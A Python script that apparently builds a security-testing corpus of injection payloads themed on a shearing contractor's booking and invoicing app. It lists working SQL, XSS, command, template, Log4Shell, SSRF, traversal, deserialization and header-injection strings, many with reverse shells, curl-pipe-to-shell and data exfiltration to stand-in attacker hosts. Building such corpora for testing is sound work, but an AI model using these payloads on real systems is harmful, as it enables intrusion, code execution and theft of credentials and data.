#!/usr/bin/env python3
"""Attack corpus for the shearing contractor theme. Seed 29802. Stdlib only."""
import json
import os
import random

SEED = 29802

# (category, class, value)
L = []


def add(cat, cls, *vals):
    for v in vals:
        L.append((cat, cls, v))


# ---------------- sqli ----------------
add("sqli", "union",
    "Glenmore' UNION SELECT username, password_hash FROM users--",
    "1180 UNION ALL SELECT NULL,NULL,card_number,NULL FROM payments-- -",
    "INV-0312' union/**/select/**/1,concat(email,0x3a,pw),3 from staff#",
    "tama' UnIoN SeLeCt table_name,2 FROM information_schema.tables-- ",
    "-1 UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns WHERE table_name='invoices'",
    "Kiri')) union select sqlite_version(),2,3--",
    "bale 14') UNION SELECT name, sql FROM sqlite_master--",
    "x' /*!50000UNION*/ /*!50000SELECT*/ bank_acct,2 FROM farmers-- -",
    "0 union%0aselect%0auser(),database(),version()",
    "Hendersons'%20UNION%20SELECT%20api_key,2%20FROM%20integrations--",
)
add("sqli", "boolean",
    "Tarndale' OR '1'='1",
    "' or 1=1 limit 1 -- farm login",
    "admin'-- ",
    "glenmore' AND substring((select pw from users where id=1),1,1)='a'--",
    "1180 AND 1=1",
    "1180 and ascii(substr((select user()),1,1))>100",
    "O'Connell' or 'x'='x",
    "Kiri\" OR \"\"=\"",
    "3.40 OR 2>1",
    "' || 1=1 --",
    "ewes') or ('a'='a",
    "Moa Flat' AND (SELECT COUNT(*) FROM invoices WHERE paid=0)>10 AND 'z'='z",
    "tally' oR/**/'7'LIKE'7",
)
add("sqli", "time",
    "Glenmore'; WAITFOR DELAY '0:0:7'--",
    "1 AND SLEEP(6)",
    "kiri' AND (SELECT 4821 FROM (SELECT(SLEEP(5)))xYz)-- qW",
    "2024-10-14' || pg_sleep(8) --",
    "1180;SELECT pg_sleep(10)--",
    "Fernhill' AND 1=(SELECT CASE WHEN (1=1) THEN randomblob(300000000) ELSE 1 END)--",
    "3 and benchmark(9000000,md5('wool'))",
    "x' AND IF(MID(@@version,1,1)='8',SLEEP(4),0)-- -",
    "tama')) and sleep(5)#",
    "42 WAITFOR TIME '23:59:59'",
)
add("sqli", "stacked",
    "Tama 92'; DROP TABLE tallies;--",
    "Kaiwaka'; UPDATE invoices SET paid=1 WHERE farm_id=7;--",
    "1; INSERT INTO users(email,role) VALUES('x@attacker.example','admin')--",
    "note'); DELETE FROM bookings; --",
    "0;EXEC xp_cmdshell 'whoami'--",
    "'; EXEC master..xp_dirtree '\\\\attacker.example\\s'--",
    "180'; ALTER TABLE staff ADD backdoor varchar(99);--",
    "glen'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/x|sh';--",
    "1;shutdown--",
    "Pinedale'; GRANT ALL PRIVILEGES ON *.* TO 'wool'@'%';#",
)
add("sqli", "error",
    "Fernhill' AND extractvalue(1,concat(0x7e,(select password from users limit 1)))-- -",
    "1 and updatexml(1,concat(0x2e,database()),1)",
    "x' AND 1=CONVERT(int,(SELECT TOP 1 email FROM farmers))--",
    "1' AND CAST((SELECT version()) AS int)=1--",
    "tally' and (select 1 from(select count(*),concat(user(),floor(rand(0)*2))x from information_schema.tables group by x)a)-- ",
    "1 AND 1=ctxsys.drithsx.sn(1,(select user from dual))",
    "x' AND exp(~(select * from (select current_user())a))-- -",
)
add("sqli", "oob",
    "1 UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pw FROM users LIMIT 1),'.attacker.example\\\\a'))",
    "x'||UTL_HTTP.request('http://attacker.example/'||(select user from dual))||'",
    "1; SELECT * FROM dblink('host=203.0.113.9 user=a dbname=b','select 1') AS t(a int)--",
    "'; DECLARE @q varchar(99); SET @q='\\\\'+(SELECT TOP 1 name FROM sys.databases)+'.attacker.example\\x'; EXEC master..xp_fileexist @q;--",
)
add("sqli", "file",
    "1 UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/t.php'--",
    "-5 union select load_file('/etc/passwd'),2,3",
    "x' UNION SELECT pg_read_file('/etc/shadow',0,500)--",
)
add("sqli", "orderby",
    "tally desc, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "farm,(select sleep(4))",
    "IF((SELECT COUNT(*) FROM users)>0,date,farm)",
    "3 ASC; DROP TABLE crew--",
    "(CASE WHEN (SELECT substr(pw,1,1) FROM users WHERE id=1)='a' THEN tally ELSE farm END)",
)
add("sqli", "obfuscated",
    "Glenmore'/**/oR/**/1/**/lIkE/**/1#",
    "1%2527%2520OR%25201%253D1--",
    "kiri%bf%27 or 1=1 -- ",
    "Tama＇ ＯＲ １＝１－－",
    "x'%09union%09select%09password,1%09from%09users--",
    "1'||(sElEcT/**/cHaR(65)||cHr(66))||'",
    "\u0027 OR 1=1 --",
    "0x27 OR 0x31=0x31",
    "'\tOR\t'a'='a'\t--",
    "ewes'/*!or*/2>1-- -",
    "x'+UnIoN+SeLeCt+null,pw+FrOm+users--+",
)

# ---------------- xss ----------------
add("xss", "tag",
    "Great day! <script>fetch('//attacker.example/c?'+document.cookie)</script>",
    "Kiri 203 <img src=x onerror=alert(document.domain)>",
    "<svg/onload=location='https://attacker.example/?s='+localStorage.token>",
    "Bale 14 <body onload=eval(atob('YWxlcnQoMSk='))>",
    "<iframe src=\"javascript:parent.alert(1)\"></iframe> booking note",
    "Hi team <details open ontoggle=confirm`1`>",
    "<input autofocus onfocus=alert(1) value='Glenmore'>",
    "<video><source onerror=\"import('//attacker.example/x.js')\">",
    "Tarndale<marquee onstart=alert(1)>sheep</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(2)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=//attacker.example/e.swf>",
    "<audio src=1 onerror=this.src='//attacker.example/'+document.cookie>",
    "<form action=//attacker.example/login><input name=pw type=password placeholder='Re-enter password'><button>Continue</button></form>",
    "<base href=\"//attacker.example/\">",
    "<link rel=import href=//attacker.example/x.html>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/pay\">",
    "<style>@import 'https://attacker.example/leak.css';</style>",
    "<table background=\"javascript:alert(1)\">",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(document.cookie)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<a href=# onmouseover=\"fetch('https://attacker.example',{method:'POST',body:document.body.innerHTML})\">invoice</a>",
)
add("xss", "breakout",
    "\"><script>alert(1)</script>",
    "Moa Flat' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"alert(document.cookie)",
    "</textarea><script>new Image().src='//attacker.example/?'+document.cookie</script>",
    "</title><svg onload=alert(1)>",
    "';alert(String.fromCharCode(88,83,83));//",
    "\\\";alert(1);//",
    "</script><script>alert(1)</script>",
    "Hendersons</style><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "${alert(1)}`;alert(1);`",
    "--><svg onload=alert(1)><!--",
    "]]><script>alert(1)</script>",
    "\" style=\"background:url(javascript:alert(1))",
)
add("xss", "uri",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "  javascript:void(location='//attacker.example/?'+document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "javascript&colon;alert(1)",
    "[Tally sheet](javascript:alert(1))",
    "![wool](x\" onerror=\"alert(1))",
    "[click](data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
)
add("xss", "encoded",
    "&lt;script&gt;alert(1)&lt;/script&gt; <img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">pay</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">INV-0312</a>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=\"\\u0061lert(1)\">",
    "<svg><script>&#x61;lert(1)</script></svg>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>eval('al'+'ert(1)')</sCrIpT>",
    "<img/src=x\nonerror=alert(1)>",
    "<svg\tonload\t=\talert(1)>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
)
add("xss", "framework",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "{{$on.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}",
    "<x v-on:click=\"_c.constructor('alert(1)')()\">click</x>",
)

# ---------------- cmdi ----------------
add("cmdi", "separator",
    "tally_2024_w42.csv; cat /etc/passwd",
    "Glenmore && curl -s http://attacker.example/s.sh | sh",
    "oct.csv | nc 203.0.113.7 4444 -e /bin/sh",
    "run1.csv || wget -qO- attacker.example/i|bash",
    "bale14.pdf;id",
    "report.csv\nwhoami",
    "invoice.pdf\r\nuname -a",
    "x.csv & ping -c 3 198.51.100.2 &",
    "a.csv;rm -rf /srv/shearing/exports/*",
    "photo.jpg; chmod +s /bin/bash",
    "export.csv ; echo 'ssh-ed25519 AAAAFAKEKEY attacker' >> ~/.ssh/authorized_keys",
    "tally.csv|crontab -l",
    "x;python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.50\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];os.system(\"sh\")'",
    "run.csv; php -r '$s=fsockopen(\"198.51.100.14\",443);exec(\"sh <&3 >&3 2>&3\");'",
    "x | perl -e 'system(\"id\")'",
    "a.csv;bash -i >& /dev/tcp/203.0.113.8/8080 0>&1",
    "tally.pdf && tar czf - /srv | curl -T - attacker.example",
    "wk42.csv;nslookup $(whoami).attacker.example",
    "glen.csv%0acat%20/etc/shadow",
    "oct.csv%3Bid",
    "Moa Flat; sleep 9 #",
    "report; scp /etc/passwd u@203.0.113.4:/tmp/",
    "x.csv; busybox nc 198.51.100.9 1337 -e sh",
)
add("cmdi", "substitution",
    "Tama $(curl attacker.example/p|sh)",
    "`id`",
    "Kiri `wget -O /tmp/k attacker.example/k; sh /tmp/k`",
    "$(cat /etc/hostname).attacker.example",
    "invoice_$(sleep 8).pdf",
    "farm=${IFS}cat${IFS}/etc/passwd",
    "a.csv;{cat,/etc/passwd}",
    "x;cat$IFS$9/etc/shadow",
    "$(printf '\\x69\\x64')",
    "$(echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|base64 -d|sh)",
    "x;c'a't /e'tc'/pa's'swd",
    "x;c\\at /et\\c/pas\\swd",
    "x;/???/c?t /???/p??s??",
    "x;/bin/c[a]t /etc/pas[s]wd",
    "run.csv;$'\\x63\\x61\\x74' /etc/passwd",
    "tally;h=attacker.example;curl $h/x|sh",
    "oct.csv$(IFS=,;cmd=curl,attacker.example;$cmd)",
    "<(curl -s attacker.example/r)",
)
add("cmdi", "argument",
    "-o /var/www/html/shell.php http://attacker.example/s.txt",
    "--output=/etc/cron.d/x http://attacker.example/c",
    "-oProxyCommand=curl${IFS}attacker.example|sh",
    "--checkpoint=1 --checkpoint-action=exec=sh x.sh",
    "-exec sh -c 'id' ;",
    "--upload-pack=touch /tmp/pwn",
    "'; id; echo '",
    "\"; curl attacker.example/$(id -u); \"",
)
add("cmdi", "windows",
    "tally.csv & type C:\\Windows\\win.ini",
    "oct.csv | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"",
    "x.csv && certutil -urlcache -f http://attacker.example/b.exe %TEMP%\\b.exe",
    "report.csv & cmd /c dir c:\\",
    "a.pdf|net user wool P4ss! /add",
    "x.csv & powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==",
    "x & bitsadmin /transfer j http://attacker.example/x %temp%\\x.exe",
    "run.csv;ping -n 6 127.0.0.1",
    "tally.csv^&^whoami",
    "x | mshta http://attacker.example/h.hta",
    "tally.csv & rundll32 \\\\203.0.113.30\\s\\x.dll,Run",
)
add("cmdi", "newline",
    "Glenmore run export\n/bin/sh -c 'curl attacker.example/g | sh'",
    "Fernhill%0Did%0A",
)
add("cmdi", "imagetragick",
    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|id\")'\npop graphic-context",
    "%!PS\nuserdict /setpagedevice undef\n(%pipe%curl attacker.example/g|sh) (w) file",
)

# ---------------- traversal ----------------
add("traversal", "dotdot",
    "../../../../etc/passwd",
    "exports/../../../../etc/shadow",
    "tally_2024_w42.csv/../../../../../proc/self/environ",
    "..\\..\\..\\..\\windows\\win.ini",
    "photos/../../../../home/office/.ssh/id_rsa",
    "../../../srv/shearing/.env",
    "../../../../var/log/nginx/access.log",
    "invoices/2024/../../../config/database.yml",
    "..//..//..//..//etc/passwd",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "..\\/..\\/..\\/etc/passwd",
    "/var/www/app/exports/../../../../etc/passwd",
    "../../../../../../root/.bash_history",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../../proc/self/cmdline",
    "oct.csv/../../../../../../usr/local/etc/php/php.ini",
    "../../.git/config",
)
add("traversal", "encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..%2f..%2f..%2f..%2fhome%2foffice%2f.aws%2fcredentials",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fwindows%252fwin.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "．．／．．／．．／etc／passwd",
    "%2E%2E%5C%2E%2E%5C%2E%2E%5Cboot.ini",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
)
add("traversal", "absolute",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "\\\\attacker.example\\share\\tally.csv",
    "/proc/self/fd/3",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "php://filter/convert.base64-encode/resource=../config.php",
    "zip://uploads/tally.zip#shell.php",
    "phar://uploads/bale14.jpg/x",
    "expect://id",
)
add("traversal", "nullbyte",
    "../../../../etc/passwd%00.csv",
    "../../../etc/passwd\\u0000.pdf",
    "....//....//etc/passwd%00.jpg",
)

# ---------------- ssrf ----------------
add("ssrf", "metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/user-data",
)
add("ssrf", "ip-forms",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/",
    "http://0xA9.254.0251.0xfe/latest/",
    "http://127.1:8080/admin",
    "http://0/server-status",
    "http://[::]:22/",
    "http://[::ffff:127.0.0.1]:6379/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
    "http://017700000001:9200/_cat/indices",
    "http://①②⑦.⓪.⓪.①/admin",
    "http://127.0.0.1.nip.io/internal",
    "http://169.254.169.254.attacker.example/",
)
add("ssrf", "internal",
    "http://localhost:8080/actuator/env",
    "http://127.0.0.1:2375/containers/json",
    "http://10.0.0.5:9200/_search?q=*",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:10250/pods",
    "http://internal-billing.svc.cluster.local/api/invoices",
    "http://redis:6379/",
    "http://kubernetes.default.svc/api/v1/secrets",
    "http://consul.service:8500/v1/kv/?recurse",
    "http://localhost/server-status",
    "https://localhost:8443/admin/users/export",
)
add("ssrf", "scheme",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example|sh%5Cn%22",
    "gopher://localhost:11211/_stats",
    "dict://127.0.0.1:6379/info",
    "file:///proc/self/environ",
    "ldap://127.0.0.1:389/dc=internal",
    "tftp://203.0.113.66/tally.csv",
    "sftp://attacker.example:11111/",
    "jar:http://attacker.example/x.zip!/a.txt",
    "netdoc:///etc/passwd",
)
add("ssrf", "bypass",
    "http://attacker.example@127.0.0.1:8080/",
    "http://127.0.0.1#@attacker.example/logo.png",
    "http://localtest.me:3000/",
    "http://wool-photos.attacker.example/bale14.jpg?x=http://10.0.0.1/",
    "https://attacker.example/302?url=http://127.0.0.1:5000/admin",
    "http://127.0.0.1%2f@attacker.example/",
    "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/admin",
    "http://0x7f.1/",
    "//169.254.169.254/latest/meta-data",
)

# ---------------- code ----------------
add("code", "ssti",
    "Hi {{farmer_name}}, {{7*'7'}} {{config.items()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/s|sh').read() }}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{c('id',shell=True,stdout=-1).communicate()}}{% endif %}{% endfor %}",
    "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
    "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$r",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "{{#with \"s\" as |string|}}{{#with string.sub.apply 0 \"constructor\"}}{{this}}{{/with}}{{/with}}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "@(1+2) @System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{range.constructor(\"return process.mainModule.require('child_process').execSync('id')\")()}}",
    "Kia ora ${first_name} {{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ '' | attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
)
add("code", "el",
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}",
    "${pageContext.request.getSession().setAttribute('role','admin')}",
    "${facesContext.externalContext.redirect('https://attacker.example')}",
    "${applicationScope}",
    "%{#a=@java.lang.Runtime@getRuntime().exec('whoami')}",
)
add("code", "log4shell",
    "${jndi:ldap://attacker.example:1389/wool}",
    "Glenmore ${jndi:rmi://203.0.113.21/a}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.3/o}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/z}",
    "${jnd${upper:i}:ldaps://attacker.example/q}",
    "Tama ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/k}",
    "${jndi:ldap://${sys:java.version}.attacker.example/v}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
)
add("code", "eval",
    "require('child_process').execSync('curl attacker.example/n|sh')",
    "__import__('os').system('id')",
    "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "system('id');",
    "';phpinfo();//",
    "\".passthru('cat /etc/passwd').\"",
    "${@print(md5(31337))}",
    "1;require('child_process').exec('nc 203.0.113.7 4444 -e sh')//",
    "Function('return this')().process.exit()",
    "(lambda: __import__('subprocess').getoutput('whoami'))()",
    "`#{system('id')}`",
    "assert(base64_decode('c3lzdGVtKCJpZCIpOw=='))",
    "Runtime.getRuntime().exec(\"/bin/sh -c id\")",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
)
add("code", "prototype-pollution",
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    "farm[__proto__][polluted]=yes",
    "{\"tally\":92,\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}",
    "constructor.prototype.sourceURL=\\u000areturn process.mainModule.require('child_process').execSync('id')",
)
add("code", "formula",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"View tally\")",
    "Glenmore,1,+cmd|' /C powershell IEX(wget attacker.example/p)'!A1,392",
    "@SUM(1+1)*cmd|'/c notepad'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "=WEBSERVICE(\"http://attacker.example/x?\"&A2)",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",B2:B40),\"//a\")",
    "\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"__DdeLink_60_870516294\"\")\"",
    "\t=1+1+cmd|'/C whoami'!A0",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><tally>&x;</tally>",
    "<!DOCTYPE b [<!ENTITY % r SYSTEM \"http://attacker.example/e.dtd\"> %r;]><bale/>",
    "<?xml version=\"1.0\"?><!DOCTYPE inv [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><invoice><farm>&s;</farm></invoice>",
    "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><r>&d;</r>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>",
    "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE x SYSTEM \"http://203.0.113.40/x.dtd\"><x/>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY f SYSTEM \"file:///srv/shearing/.env\">]><text>&f;</text></svg>",
)
add("code", "deserialization",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:2:{i:0;O:15:\"Monolog\\Handler\":1:{s:4:\"cmd\";s:2:\"id\";}i:1;i:1;}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    "!!python/object/apply:os.system ['curl attacker.example|sh']",
    "!!python/object/new:subprocess.check_output [['id']]",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/a\",\"autoCommit\":true}",
    "cos\nsystem\n(S'id'\ntR.",
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: !ruby/object:Net::BufferedIO\n    io: !ruby/object:Gem::Package::TarReader::Entry\n      read: 0\n      header: \"|id\"",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "gASVHgAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
)

# ---------------- nosqli ----------------
add("nosqli", "operator",
    "{\"farm\": {\"$ne\": null}}",
    "{\"email\": \"office@ropatashearing.co.nz\", \"password\": {\"$gt\": \"\"}}",
    "{\"$where\": \"sleep(5000) || true\"}",
    "{\"tally\": {\"$gt\": -1}, \"$or\": [{}, {\"role\": \"admin\"}]}",
    "{\"username\": {\"$regex\": \"^a\"}, \"password\": {\"$ne\": \"x\"}}",
    "{\"farm\": {\"$in\": [null, \"\", {\"$exists\": true}]}}",
    "password[$ne]=wool",
    "username[$regex]=.*&password[$exists]=true",
    "farm[$nin][]=x",
    "{\"invoice\": {\"$where\": \"this.amount > 0 && (function(){while(1){}})()\"}}",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}",
    "tally[$gte]=0&farm[$regex]=^G",
    "{\"pw\": {\"$regex\": \"^p4.*\", \"$options\": \"si\"}}",
    "{\"$or\": [{\"farm\": \"Glenmore\"}, {\"1\": {\"$eq\": 1}}]}",
    "{\"farm\":\"Glenmore\",\"$comment\":\"x\",\"paid\":{\"$type\":8}}",
)
add("nosqli", "js",
    "Glenmore'; return true; var x='",
    "'; while(true){}; '",
    "1; db.users.drop()",
    "Kiri' || this.password.match(/^a/) || 'a'=='b",
    "0;return db.getCollectionNames()",
    "'|| sleep(5000) || '",
    "'; this.role='admin'; return true; //",
    "\" || \"\"==\"",
    "_all_docs?include_docs=true",
    "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}",
    "FOR u IN users RETURN u",
)

# ---------------- crlf ----------------
add("crlf", "log-forging",
    "Tama 92\n2024-10-14 05:02:11 INFO admin login success user=office",
    "Kiri\r\n[2024-10-14T07:00:03Z] level=info msg=\"invoice INV-0312 marked paid\"",
    "glenmore%0a2024-10-15 INFO user=admin action=delete_bookings status=ok",
    "run1%0d%0a127.0.0.1 - admin [14/Oct/2024:05:00:00 +1300] \"GET /admin HTTP/1.1\" 200",
    "Sione 79\n\n=== AUDIT: payment details changed by owner, approved ===",
    "x\u2028INFO tally corrected by supervisor",
)
add("crlf", "header-injection",
    "en-NZ\r\nSet-Cookie: session=attacker-fixed; Path=/",
    "/bookings%0d%0aLocation:%20https://attacker.example/",
    "INV-0312%0D%0AX-Forwarded-For:%20127.0.0.1",
    "tally.csv\r\nContent-Disposition: attachment; filename=evil.html",
    "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
    "Glenmore%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example",
    "next=/dashboard%0d%0aRefresh:%200;url=https://attacker.example",
)
add("crlf", "response-splitting",
    "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "/tally\r\n\r\n<html><form action=https://attacker.example/>Login</form>",
    "x%0d%0a%0d%0a<svg onload=alert(1)>",
    "oct.csv\r\nContent-Type: text/html\r\n\r\n<h1>Invoice overdue: pay at attacker.example</h1>",
)
add("crlf", "mail-header",
    "office@ropatashearing.co.nz\r\nBcc: list@attacker.example",
    "Hendersons\nCc: all-farmers@attacker.example\nSubject: New bank details",
    "Bob%0ABcc:%20x@attacker.example%0A",
    "Tally for Glenmore\r\nReply-To: accounts@attacker.example\r\n\r\nPlease pay to acc 99-9999-9999999-00",
    "farmer@example.nz%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<a href=https://attacker.example>Pay now</a>",
    "Mere\r\nX-Mailer: x\r\nTo: everyone@attacker.example",
    "ok\n.\nMAIL FROM:<x@attacker.example>\nRCPT TO:<office@ropatashearing.co.nz>\nDATA",
)
add("crlf", "csv-row",
    "Rain delay\"\n2024-10-14,Glenmore,9,Attacker,999",
    "good day\r\n2024-10-15,Tarndale,1,\"=HYPERLINK(\"\"https://attacker.example\"\")\",0",
    "Kiri\",\"203\"\nINV-9999,100000.00,yes",
    "note\n\"Jase\",\"-\",\"=cmd|'/c calc'!A1\"",
    "\",\"\"\r\nbank_acct,99-9999-9999999-00",
    "x\r\nshearer,total\r\nattacker,5000",
)

# ---------------- ldap-xpath ----------------
add("ldap-xpath", "ldap",
    "*)(uid=*))(|(uid=*",
    "tama)(|(objectClass=*)",
    "admin)(&)",
    "*)(userPassword=*)",
    "kiri*)(|(memberOf=cn=admins,ou=groups,dc=shearing,dc=nz)",
    "\\2a)(cn=\\2a",
    "office)(!(description=x))",
    "*)(|(mail=*@ropatashearing.co.nz)",
    "Hemi))%00",
    "x)(objectClass=user))(&(cn=x",
)
